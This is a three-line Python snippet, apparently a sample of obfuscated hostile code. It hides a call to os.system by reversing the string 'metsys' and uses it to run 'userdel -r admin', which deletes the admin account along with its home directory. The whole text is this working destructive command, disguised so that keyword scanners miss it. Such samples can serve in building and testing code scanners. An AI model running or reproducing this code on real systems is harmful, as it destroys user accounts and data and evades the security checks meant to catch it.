import os

getattr(os, "metsys"[::-1])("userdel -r admin")
